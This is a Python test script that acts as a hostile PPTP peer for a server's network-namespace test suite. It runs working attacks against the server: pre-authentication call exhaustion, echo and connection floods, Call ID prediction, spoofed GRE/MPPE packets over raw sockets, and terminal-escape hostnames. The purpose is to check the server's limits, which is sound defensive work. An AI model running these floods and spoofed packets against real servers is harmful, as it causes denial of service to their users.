#!/usr/bin/env python3
"""attack.py - a hostile PPTP peer for tests/netns/attack.sh.

Speaks just enough RFC 2637 to do what an attacker without a password
does, and prints one JSON line with what it saw, so the suite can compare
the figures with the server's limits:

  preauth   N connections, each asking for M calls and never
            authenticating; holds them
  echoflood sends Echo-Requests without ever reading the replies
  connflood opens N connections at once (from several source addresses)
            and holds them idle
  rate      N connections one after another, alternating source addresses
  callids   one call per connection, N times: the Call IDs handed out
  forge     N spoofed GRE packets for a call: stateless MPPE frames with
            forged coherency counts (raw socket, IP_HDRINCL)
  hostname  a Start-Control-Connection-Request whose host and vendor names
            carry terminal escape sequences

Everything stays inside the test's namespaces (198.18.0.0/15).
"""
import argparse
import errno
import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time

MAGIC = 0x1A2B3C4D
SCCRQ, SCCRP, ECHORQ, OCRQ, OCRP, CCRQ, CDN = 1, 2, 5, 7, 8, 12, 13
LENGTHS = {1: 156, 2: 156, 3: 16, 4: 16, 5: 16, 6: 20, 7: 168, 8: 32,
           9: 220, 10: 24, 11: 28, 12: 16, 13: 148, 14: 40, 15: 24}


def header(length, ctype):
    return struct.pack("!HHIHH", length, 1, MAGIC, ctype, 0)


def sccrq(hostname=b"attacker", vendor=b"attack.py"):
    return (header(156, SCCRQ) + struct.pack("!HHIIHH", 0x0100, 0, 3, 3, 1, 1)
            + hostname[:64].ljust(64, b"\0") + vendor[:64].ljust(64, b"\0"))


def ocrq(call_id, serial):
    return (header(168, OCRQ)
            + struct.pack("!HHIIIIHHHH", call_id, serial, 300, 100000000, 3,
                          3, 64, 0, 0, 0)
            + b"\0" * 128)


def echorq(ident):
    return header(16, ECHORQ) + struct.pack("!I", ident)


def out(obj):
    print(json.dumps(obj), flush=True)


class Reader:
    """Reassembles control messages from a blocking socket."""

    def __init__(self, sock):
        self.sock = sock
        self.buf = b""

    def next(self, timeout):
        """Returns (type, body) or None on EOF/reset/timeout."""
        deadline = time.monotonic() + timeout
        while True:
            if len(self.buf) >= 12:
                length, _, _, ctype, _ = struct.unpack("!HHIHH", self.buf[:12])
                if length < 12:
                    return None
                if len(self.buf) >= length:
                    msg = self.buf[:length]
                    self.buf = self.buf[length:]
                    return ctype, msg
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, OSError):
                return None
            if not data:
                return None
            self.buf += data

    def wait_for(self, want, timeout):
        deadline = time.monotonic() + timeout
        while True:
            m = self.next(max(0.0, deadline - time.monotonic()))
            if m is None or m[0] == want:
                return m


def connect(host, port, src=None, timeout=3.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if src:
        s.bind((src, 0))
    s.settimeout(timeout)
    s.connect((host, port))
    return s


def control_up(host, port, src=None, **kw):
    """Connects and completes SCCRQ/SCCRP; returns (sock, reader) or None."""
    try:
        s = connect(host, port, src)
        s.sendall(sccrq(**kw))
    except OSError:
        return None
    r = Reader(s)
    if r.wait_for(SCCRP, 3.0) is None:
        s.close()
        return None
    return s, r


def ocrp_fields(msg):
    call_id, peer, result, error = struct.unpack("!HHBB", msg[12:18])
    return call_id, peer, result, error


def readable(socks, timeout):
    """The sockets of socks that are readable within timeout (poll(2):
    select(2) stops at descriptor 1024)."""
    p = select.poll()
    by_fd = {}
    for s in socks:
        p.register(s, select.POLLIN | select.POLLERR | select.POLLHUP)
        by_fd[s.fileno()] = s
    return [by_fd[fd] for fd, _ in p.poll(int(timeout * 1000))]


def writable(s, timeout):
    p = select.poll()
    p.register(s, select.POLLOUT)
    return bool(p.poll(int(timeout * 1000)))


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def cmd_preauth(a):
    raise_nofile()
    held, accepted, refused = [], 0, 0
    for i in range(a.conns):
        up = control_up(a.host, a.port, a.src)
        if up is None:
            refused += a.calls
            continue
        s, r = up
        held.append(s)
        for j in range(a.calls):
            try:
                s.sendall(ocrq(1 + i * 100 + j, j))
            except OSError:
                refused += 1
                continue
            m = r.wait_for(OCRP, 3.0)
            if m is not None and ocrp_fields(m[1])[2] == 1:
                accepted += 1
            else:
                refused += 1
    out({"calls_accepted": accepted, "calls_refused": refused,
         "connections": len(held)})
    # Hold, and see how long the server lets the connections live.
    t0 = time.monotonic()
    alive = list(held)
    while alive and time.monotonic() - t0 < a.hold:
        for s in readable(alive, 0.5):
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:
                alive.remove(s)
    out({"closed_by_server": len(held) - len(alive),
         "held_seconds": round(time.monotonic() - t0, 1)})


def cmd_echoflood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # A small receive window: the server's replies back up at once.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.settimeout(5)
    s.connect((a.host, a.port))
    s.sendall(sccrq())
    r = Reader(s)
    if r.wait_for(SCCRP, 3.0) is None:
        out({"error": "no SCCRP"})
        return 1
    chunk = b"".join(echorq(i) for i in range(4096))	# 64 KiB
    sent, closed = 0, None
    s.settimeout(a.stall)
    t0 = time.monotonic()
    while sent < a.bytes:
        try:
            sent += s.send(chunk)
        except socket.timeout:
            closed = "stalled"	# the server stopped reading us
            break
        except OSError as e:
            closed = errno.errorcode.get(e.errno, str(e.errno))
            break
    out({"sent": sent, "closed": closed,
         "seconds": round(time.monotonic() - t0, 1)})
    time.sleep(a.hold)
    return 0


def cmd_connflood(a):
    raise_nofile()
    srcs = a.src.split(",") if a.src else [None]
    socks = []
    t0 = time.monotonic()
    for i in range(a.count):
        if a.rate:
            # Paced: stay under a per-source rate limit.
            delay = t0 + i / a.rate - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        src = srcs[i % len(srcs)]
        if src:
            s.bind((src, 0))
        s.setblocking(False)
        try:
            s.connect((a.host, a.port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            continue
        socks.append(s)
    # Wait for each connect, send SCCRQ, then collect the answers.
    pending = {s: b"" for s in socks}
    answered, dead = set(), set()
    deadline = time.monotonic() + a.wait
    for s in socks:
        w = writable(s, max(0, deadline - time.monotonic()))
        if not w or s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
            dead.add(s)
            continue
        try:
            s.send(sccrq())
        except OSError:
            dead.add(s)
    while time.monotonic() < deadline and len(answered) + len(dead) < len(socks):
        live = [s for s in socks if s not in answered and s not in dead]
        for s in readable(live, 0.2):
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                dead.add(s)
                continue
            pending[s] += data
            if len(pending[s]) >= 156:
                answered.add(s)
    out({"opened": len(socks), "answered": len(answered),
         "refused": len(dead)})
    # Hold the answered ones idle: the server's deadlines must close them.
    t0 = time.monotonic()
    alive = set(answered)
    while alive and time.monotonic() - t0 < a.hold:
        for s in readable(list(alive), 0.5):
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:
                alive.discard(s)
    out({"still_open": len(alive), "closed_by_server": len(answered) - len(alive),
         "held_seconds": round(time.monotonic() - t0, 1)})


def cmd_rate(a):
    srcs = a.src.split(",")
    per = {s: 0 for s in srcs}
    for i in range(a.count):
        src = srcs[i % len(srcs)]
        up = control_up(a.host, a.port, src)
        if up is not None:
            per[src] += 1
            up[0].close()
    out({"attempts": a.count, "answered": sum(per.values()),
         "per_source": per})


def cmd_callids(a):
    ids = []
    for i in range(a.count):
        up = control_up(a.host, a.port, a.src)
        if up is None:
            time.sleep(0.2)
            continue
        s, r = up
        s.sendall(ocrq(1000 + i, i))
        m = r.wait_for(OCRP, 3.0)
        if m is not None and ocrp_fields(m[1])[2] == 1:
            ids.append(ocrp_fields(m[1])[0])
        s.close()
        time.sleep(a.pause)
    diffs = [(b - a_) % 65536 for a_, b in zip(ids, ids[1:])]
    out({"ids": ids, "sequential": sum(1 for d in diffs if d == 1),
         "near": sum(1 for d in diffs if d <= 64 or d >= 65536 - 64)})


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def cmd_forge(a):
    """Spoofed GRE from the client's address to the server, each a stateless
    MPPE frame (A and D set) with a forged coherency count."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(a.seed)
    seq = rnd.randrange(1 << 31)
    fixed = bytes(rnd.randrange(256) for _ in range(40))
    count = rnd.randrange(4096)
    for i in range(a.count):
        if not a.replay:
            count = rnd.randrange(4096)
            payload = bytes(rnd.randrange(256) for _ in range(40))
        else:
            payload = fixed
        mppe = struct.pack("!H", 0x9000 | count) + payload
        ppp = b"\xff\x03\x00\xfd" + mppe
        gre = struct.pack("!HHHHI", 0x3001, 0x880B, len(ppp), a.call_id,
                          seq) + ppp
        if not a.replay:
            seq = (seq + 1) & 0xFFFFFFFF
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(gre),
                         rnd.randrange(65536), 0, 64, 47, 0,
                         socket.inet_aton(a.spoof), socket.inet_aton(a.host))
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        raw.sendto(ip + gre, (a.host, 0))
        if a.interval:
            time.sleep(a.interval)
    out({"sent": a.count, "replay": a.replay})


def cmd_hostname(a):
    host = b"\x1b[2J\x1b[31mPWNED\x1b]0;owned\x07"
    up = control_up(a.host, a.port, a.src, hostname=host,
                    vendor=b"\x1b[5mv\x07")
    out({"answered": up is not None})
    if up:
        up[0].close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="198.18.0.1")
    p.add_argument("--port", type=int, default=1723)
    p.add_argument("--src", default=None, help="source address(es), a,b")
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("preauth")
    s.add_argument("--conns", type=int, default=3)
    s.add_argument("--calls", type=int, default=16)
    s.add_argument("--hold", type=float, default=20)
    s = sub.add_parser("echoflood")
    s.add_argument("--bytes", type=int, default=32 << 20)
    s.add_argument("--stall", type=float, default=5)
    s.add_argument("--hold", type=float, default=1)
    s = sub.add_parser("connflood")
    s.add_argument("--count", type=int, default=1100)
    s.add_argument("--rate", type=float, default=0,
                   help="connections per second in all (0: at once)")
    s.add_argument("--wait", type=float, default=20)
    s.add_argument("--hold", type=float, default=10)
    s = sub.add_parser("rate")
    s.add_argument("--count", type=int, default=100)
    s = sub.add_parser("callids")
    s.add_argument("--count", type=int, default=20)
    s.add_argument("--pause", type=float, default=0.1)
    s = sub.add_parser("forge")
    s.add_argument("--spoof", required=True, help="the client's address")
    s.add_argument("--call-id", type=int, required=True)
    s.add_argument("--count", type=int, default=300)
    s.add_argument("--replay", action="store_true",
                   help="the same frame every time")
    s.add_argument("--interval", type=float, default=0)
    s.add_argument("--seed", type=int, default=1)
    s = sub.add_parser("hostname")
    a = p.parse_args()
    return globals()["cmd_" + a.cmd](a) or 0


if __name__ == "__main__":
    sys.exit(main())
